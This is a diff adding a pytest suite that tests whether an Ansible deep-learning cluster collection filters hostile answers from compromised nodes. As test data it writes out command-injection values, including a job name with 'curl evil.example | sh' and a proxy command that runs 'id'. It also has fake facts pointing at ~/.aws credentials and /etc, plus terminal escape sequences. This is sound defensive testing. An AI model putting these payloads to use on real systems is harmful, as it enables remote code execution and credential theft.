@@ -1,0 +1,319 @@
+# Copyright: Contributors to the deeplearning.cluster project
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+
+"""What a node answers is data: finding C1 of the security review. The nodes' Python is replaced by one that answers what a test wants."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import random
+import shlex
+import stat
+import string
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+from ansible_collections.deeplearning.cluster.plugins.plugin_utils import answers
+
+ROOT = Path(__file__).resolve().parents[2]
+MODULES = ROOT / "plugins" / "modules"
+#: Modules that run on nodes, with arguments that each of them takes.
+ON_NODES = {
+    "dataset": {"source": "s3://bucket/data", "directory": "/efs/datasets", "state": "examined"},
+    "python_environment": {"name": "bert", "directory": "/efs/environments"},
+    "shared_storage": {"file_system_id": "fs-0123456789abcdef0", "region": "us-east-1", "path": "/efs", "owner": "ubuntu"},
+    "ssh_trust": {"cluster": "bert", "user": "ubuntu", "authority": "ssh-ed25519 AAAA", "principals": ["i-0bbb"]},
+    "training_job": {"name": "digits-1", "state": "stopped"},
+    "training_job_info": {"directory": "/efs/jobs"},
+    "training_job_report": {"name": "digits-1", "directory": "/efs/jobs", "dest": "report.html"},
+    "training_job_status": {"directory": "/efs/jobs"},
+    "training_job_logs": {"name": "digits-1", "directory": "/efs/jobs"},
+    "training_job_wait": {"name": "digits-1", "directory": "/efs/jobs"},
+    "worker_metadata": {"cluster": "bert", "number": 2, "workers": [], "user": "ubuntu"},
+}
+#: Modules that run on the controller.
+ON_CONTROLLER = {
+    "cluster",
+    "cluster_info",
+    "cluster_validation",
+    "dataset_bucket",
+    "file_system",
+    "former_nodes_info",
+    "host_keys_info",
+    "instance_role",
+    "lustre_file_system",
+    "network",
+    "node_group",
+    "ssh_authority",
+    "ssh_authority_info",
+    "ssh_files",
+}
+FACTS = {
+    "deeplearning_proxy_command": "sh -c 'id > /tmp/owned'",
+    "deeplearning_number": 1,
+    "deeplearning_instance_id": "i-0aaa",
+    "ssh_trust_principals": ["i-0aaa", "anything.example.com"],
+    "ssh_trust_directory": "/root/.ssh",
+    "ssh_trust_validity_days": 36500,
+    "training_job_source": "~/.aws",
+    "training_job_script": "credentials",
+    "dataset_source": "/etc",
+    "harmless": "value",
+}
+
+
+class Nodes:
+    """Plays against nodes whose Python prints an answer of the test's, whatever it is asked to run."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        (folder / "ansible.cfg").write_text("[defaults]\nlocalhost_warning = false\n")
+
+    def run(self, tasks: list[dict], *answers: object, inject: bool = False, is_honest: bool = False) -> subprocess.CompletedProcess[str]:
+        """Run the tasks on as many nodes as there are answers: worker 2, worker 3 and so on. Honest ones answer themselves."""
+        hosts = {f"bert-worker{number}": self.node(number, answer) for number, answer in enumerate(answers, 2)}
+        for host in hosts.values() if is_honest else ():
+            del host["ansible_python_interpreter"]
+        inventory, book = self.folder / "inventory.yml", self.folder / "play.yml"
+        inventory.write_text(yaml.safe_dump({"trainers": {"hosts": hosts}}))
+        book.write_text(yaml.safe_dump([{"hosts": "trainers", "gather_facts": False, "tasks": tasks}]))
+        environment = {
+            **os.environ,
+            "ANSIBLE_CONFIG": str(self.folder / "ansible.cfg"),
+            "ANSIBLE_NOCOLOR": "true",
+            "ANSIBLE_INJECT_FACT_VARS": str(inject),
+            "ANSIBLE_PIPELINING": "true",
+            "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
+        }
+        command = [str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(inventory), str(book)]
+        return subprocess.run(command, env=environment, cwd=self.folder, capture_output=True, text=True, timeout=120, check=False)
+
+    def node(self, number: int, answer: object) -> dict[str, object]:
+        """The variables of a node. Its interpreter does not look at what it is asked to run."""
+        text, python = self.folder / f"answer{number}", self.folder / f"python{number}"
+        text.write_text(answer if isinstance(answer, str) else json.dumps(answer))
+        python.write_text(f"#!/bin/sh\ncat {shlex.quote(str(text))}\n")
+        python.chmod(python.stat().st_mode | stat.S_IEXEC)
+        return {
+            "ansible_connection": "local",
+            "ansible_python_interpreter": str(python),
+            "deeplearning_cluster_name": "bert",
+            "deeplearning_number": number,
+            "deeplearning_hostname": f"deeplearning-worker{number}",
+            "deeplearning_private_ip": f"10.0.0.{number}",
+            "deeplearning_instance_id": f"i-0bb{number}",
+        }
+
+
+@pytest.fixture
+def nodes(tmp_path):
+    return Nodes(tmp_path)
+
+
+def test_every_module_is_known_to_run_on_nodes_or_on_the_controller():
+    assert {path.stem for path in MODULES.glob("*.py")} == set(ON_NODES) | ON_CONTROLLER
+
+
+@pytest.mark.parametrize("module", sorted(ON_NODES))
+def test_the_answer_of_every_module_on_nodes_is_filtered(module):
+    """Without an action plugin of this kind ansible-core would pass the answer on as it is."""
+    tree = ast.parse((ROOT / "plugins" / "action" / f"{module}.py").read_text())
+    (action,) = [line for line in tree.body if isinstance(line, ast.ClassDef) and line.name == "ActionModule"]
+    assert [base.id for base in action.bases] == ["NodeAction"]
+
+
+def test_no_answer_becomes_a_variable_unless_documented(nodes):
+    """The variables of the host and of the controller are those from before, and results have documented keys alone."""
+    noise = random.Random(8)
+    extra = {"".join(noise.choices(string.ascii_lowercase + "_", k=noise.randint(1, 30))): noise.random() for _unused in range(300)}
+    answer = {
+        "changed": True,
+        "ansible_facts": {**FACTS, **extra},
+        "add_host": {"host_name": "evil", "groups": ["trainers"]},
+        "add_group": "evil",
+        "ansible_stats": {"data": {"x": 1}, "per_host": False, "aggregate": True},
+        "_ansible_no_log": False,
+        "_ansible_delegated_vars": {"ansible_host": "203.0.113.66"},
+        "include": "/etc/passwd",
+        **{name: value for name, value in extra.items() if name not in {"changed", "jobs"}},
+    }
+    before = [{"ansible.builtin.set_fact": {"before": "{{ vars.keys() | list }}", "controller": "{{ hostvars.localhost.keys() | list }}"}}]
+    calls = [
+        {f"deeplearning.cluster.{module}": arguments, "register": f"result_{module}", "ignore_errors": True}
+        for module, arguments in ON_NODES.items()
+        if module not in ("training_job_wait", "training_job_logs")
+    ]
+    results = " + ".join(f"[['{module}', result_{module}.keys() | list]]" for module in ON_NODES if f"result_{module}" in str(calls))
+    after = [
+        {
+            "ansible.builtin.copy": {
+                "dest": str(nodes.folder / "seen.json"),
+                "content": "{{ {'before': before, 'after': vars.keys() | list, 'controller': controller,"
+                " 'controller_after': hostvars.localhost.keys() | list, 'groups': groups, 'results': " + results + "} | to_json }}",
+            },
+            "delegate_to": "localhost",
+            "vars": {"ansible_python_interpreter": sys.executable},
+        }
+    ]
+    done = nodes.run([*before, *calls, *after], answer)
+    seen = json.loads((nodes.folder / "seen.json").read_text())
+    allowed = {"before", "controller"} | {f"result_{module}" for module in ON_NODES}
+    assert set(seen["after"]) - set(seen["before"]) <= allowed, done.stdout
+    assert set(seen["controller_after"]) == set(seen["controller"])
+    assert "evil" not in str(seen["groups"])
+    own = {"failed", "changed", "msg", "dest", "exception", "warnings"}  # the controller adds them
+    for module, keys in seen["results"]:
+        documented = "training_job_info" if module == "training_job_status" else module
+        assert set(keys) <= set(answers.returned_values(documented)) | set(answers.COMMON) | own, module
+    assert "bert-worker2" in done.stderr
+    assert "ansible_facts" in done.stderr
+    assert "It is ignored. Check the host" in done.stderr.replace("\n", " ")
+
+
+def test_a_host_whose_python_was_looked_for_is_not_suspected(nodes):
+    """ansible-core says in the result where it has found it, and does not look again."""
+    task = {"deeplearning.cluster.training_job_info": {"directory": str(nodes.folder)}}
+    known = {"ansible.builtin.assert": {"that": "ansible_facts.discovered_interpreter_python is defined"}}
+    done = nodes.run([task, known], {}, is_honest=True)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "does not document" not in done.stderr
+
+
+def test_a_configuration_that_makes_variables_of_facts_is_refused(nodes):
+    """With it, builtin modules on nodes could set the role's variables, which no action plugin of ours could prevent."""
+    done = nodes.run([{"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"]}], {"jobs": []}, inject=True)
+    assert done.returncode != 0
+    assert "inject_facts_as_vars = false" in done.stdout + done.stderr
+
+
+def test_an_answer_that_is_no_answer_is_told_of_in_a_sentence(nodes):
+    answers = [
+        "",
+        "[]",
+        "null",
+        "not json",
+        '{"jobs": ' + "[" * 100_000,
+        '{"changed": true, "ansible_facts": []}',
+        '{"changed": true, "warnings": 3, "deprecations": {}}',
+        '{"jobs": {}}',
+        '{"jobs": [null]}',
+        '{"jobs": [{"name": "../../x"}]}',
+        '{"failed": true}',
+        '{"failed": true, "msg": ["a list"]}',
+        '{"results": 1}',
+        '{"exception": {"__ansible_type": "TaggedStr"}, "failed": true}',
+    ]
+    done = nodes.run([{"deeplearning.cluster.training_job_status": ON_NODES["training_job_status"]}], *answers)
+    assert "Traceback" not in done.stdout + done.stderr, done.stdout + done.stderr
+    assert done.stdout.count("failed=1") == len(answers), done.stdout
+
+
+def test_terminal_control_reaches_nobody(nodes):
+    escape = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m"
+    answer = {
+        "failed": True,
+        "msg": f"a{escape}b",
+        "warnings": [f"c{escape}d"],
+        "jobs": [],
+        escape: 1,
+        f"_ansible_{escape}": escape,
+        "add_host": escape,
+        "diff": [{"before": escape, "after": escape}],
+    }
+    for text in (
+        json.dumps(answer),
+        json.dumps(answer) + escape,
+        escape + json.dumps(answer),
+        escape,
+        json.dumps(answer, ensure_ascii=False),
+    ):
+        done = nodes.run([{"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"], "diff": True}], text)
+        assert "\x1b" not in done.stdout + done.stderr
+        assert "\x9b" not in done.stdout + done.stderr
+        assert "\x07" not in done.stdout + done.stderr
+
+
+def test_a_silent_node_is_left_out(nodes):
+    """The others go on; what it might have started on the controller has ended."""
+    task = {"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"], "vars": {"deeplearning_answer_timeout": 3}}
+    silent = nodes.folder / "silent"
+    silent.write_text("#!/bin/sh\nexec sleep 321\n")
+    silent.chmod(0o755)
+    task["vars"]["ansible_python_interpreter"] = (
+        f"{{{{ '{silent}' if inventory_hostname == 'bert-worker2' else '{nodes.folder}/python3' }}}}"
+    )
+    began = time.monotonic()
+    done = nodes.run(
+        [task, {"ansible.builtin.debug": {"msg": "the next task of {{ inventory_hostname }}"}}], "", {"changed": False, "jobs": []}
+    )
+    assert time.monotonic() - began < 60
+    assert "bert-worker2: no answer within 3 s" in done.stdout + done.stderr
+    assert "the next task of bert-worker3" in done.stdout
+    assert "the next task of bert-worker2" not in done.stdout
+
+
+def test_a_failed_connection_controls_no_terminal(nodes):
+    """ssh hands on what the other side has printed, and Ansible shows it."""
+    ssh = nodes.folder / "ssh"
+    ssh.write_text("#!/bin/sh\nprintf '\\033]52;c;ZXZpbA==\\007\\033[2J' >&2\nprintf '\\033[2Jx'\nexit ${STATUS:-255}\n")
+    ssh.chmod(0o755)
+    connection = {"ansible_connection": "ssh", "ansible_ssh_executable": str(ssh), "ansible_host": "10.0.0.2", "ansible_ssh_retries": 0}
+    task = {"vars": {**connection, "ansible_ssh_pipelining": False}, "ignore_unreachable": True, "ignore_errors": True}
+    tasks = [{**task, f"deeplearning.cluster.{name}": ON_NODES[name]} for name in ("training_job_info", "training_job", "shared_storage")]
+    for status in ("255", "1"):
+        ssh.write_text(ssh.read_text().replace("${STATUS:-255}", status))
+        done = nodes.run(tasks, "")
+        assert "bert-worker2" in done.stdout
+        assert not set("\x1b\x9b\x07") & set(done.stdout + done.stderr)
+
+
+def test_files_go_to_nodes_as_everything_else_does():
+    """ansible.posix.synchronize checks no host key of its own accord, and knows nothing of the way through the master."""
+    tasks = yaml.safe_load((ROOT / "roles" / "dataset" / "tasks" / "main.yml").read_text())
+    blocks = [task for each in tasks for task in each.get("block", [])]
+    (copy,) = [task["ansible.posix.synchronize"] for task in blocks if "ansible.posix.synchronize" in task]
+    assert copy["verify_host"] is True
+    assert copy["use_ssh_args"] is True
+
+
+def test_the_plan_of_a_job_is_not_made_of_what_a_host_says_of_itself(nodes):
+    """Another host's name or address would bring that host's part of the job, and its secrets, here."""
+    said = {"name": "deeplearning-worker1", "address": "10.0.0.1", "number": 1, "gpus": [], "interface": "ens5", "efa": False}
+    task = {
+        "deeplearning.cluster.training_job": {
+            "name": "digits-1",
+            "state": "prepared",
+            "directory": "/efs/jobs",
+            "command": ["true"],
+            "generation": "0",
+        }
+    }
+    done = nodes.run([task], {"changed": False, "job_state": "new", "job_directory": "/efs/jobs/digits-1", "host": said})
+    assert done.returncode != 0
+    assert "the number of the host is 2 in the inventory, and 1 in what it says" in (done.stdout + done.stderr).replace("\n", " ")
+
+
+def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
+    """They become part of commands that people are told to type."""
+    job = {
+        "name": "x; curl evil.example | sh",
+        "state": "running",
+        "directory": "/efs/jobs/x",
+        "command": ["true"],
+        "launcher": "torchrun",
+        "created": 1.0,
+        "code": {},
+        "metrics": {},
+        "process_count": 0,
+        "processes": [],
+        "lines": ["x"],
+    }
+    done = nodes.run([{"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"]}], {"changed": False, "jobs": [job]})
+    assert done.returncode != 0
+    assert "is not the name of a job" in done.stdout + done.stderr
